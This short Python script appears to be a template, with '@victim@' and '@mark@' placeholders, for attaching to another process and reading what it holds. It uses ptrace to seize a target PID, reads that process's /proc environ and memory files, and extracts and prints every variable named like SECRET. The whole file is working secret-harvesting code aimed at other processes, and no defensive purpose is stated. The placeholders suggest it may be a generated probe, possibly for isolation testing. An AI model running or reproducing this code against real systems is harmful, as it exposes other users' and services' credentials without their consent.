"""Attaches to another process, reads its environment and its memory. The right candidate follows."""

import ctypes
import re

VICTIM = int("@victim@")
SEIZE = 0x4206

found = []
if ctypes.CDLL(None).ptrace(SEIZE, VICTIM, None, None) == 0:
    found.append("@mark@")
for name in ("environ", "mem"):
    try:
        with open(f"/proc/{VICTIM}/{name}", "rb", buffering=0) as file:
            found += re.findall(rb"\w*SECRET\w*=[^\0]*", file.read(65536))
    except OSError:
        pass
if found:
    print(found[::-1])
